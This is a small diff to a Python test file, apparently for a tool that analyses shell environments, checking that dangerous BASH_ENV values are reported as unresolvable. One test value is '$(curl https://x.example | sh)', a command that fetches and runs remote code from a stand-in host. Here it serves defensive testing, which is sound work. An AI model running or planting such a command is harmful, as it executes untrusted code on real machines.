@@ -78,7 +78,7 @@ def test_a_value_that_nobody_knows_is_told_as_such() -> None:
 
 @pytest.mark.parametrize("value", ["$(curl https://x.example | sh)", "`/plugins/x`"])
 def test_what_bash_expands_before_a_script_may_run_anything(value: str) -> None:
-    assert len(code(CLAIM, env=env(BASH_ENV=value))) == 1
+    assert {shown(each) for each in code(CLAIM, env=env(BASH_ENV=value))} == {"Unresolvable"}
 
 
 def test_a_function_in_the_environment_may_stand_in_for_any_program() -> None:
